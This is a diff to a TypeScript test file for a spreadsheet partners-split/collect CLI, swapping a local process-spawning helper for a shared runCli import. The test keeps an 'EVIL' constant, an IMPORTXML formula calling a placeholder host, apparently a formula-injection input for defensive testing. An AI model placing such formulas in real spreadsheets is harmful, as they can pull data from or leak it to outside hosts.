@@ -3,23 +3,19 @@
  * is edited too → partners-collect (twice) → partners-split again reuses the copies.
  */
 import ExcelJS from 'exceljs';
-import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import { REPO_ROOT } from '../../src/offline/runtime';
 import { ensureBuild, tempDir } from '../support/runtime';
+import { runCli } from '../support/cli';
 
-const CLI = path.join(REPO_ROOT, 'build', 'node', 'cli.cjs');
 const EXAMPLE = path.join(REPO_ROOT, 'examples', 'cbo-tracker-example.xlsx');
 const A = 'Banteay Meanchey Community Network';
 const B = 'Coastal Communities Organisation';
 const C = 'Mekong Community Voices';
 const EVIL = '=IMPORTXML("http://evil.example","//a")';
 
-function cli(...args: string[]) {
-  const result = spawnSync(process.execPath, [CLI, ...args], { cwd: REPO_ROOT, encoding: 'utf8' });
-  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
-}
+const cli = (...args: string[]) => runCli(REPO_ROOT, ...args);
 
 function json(run: ReturnType<typeof cli>) {
   try {
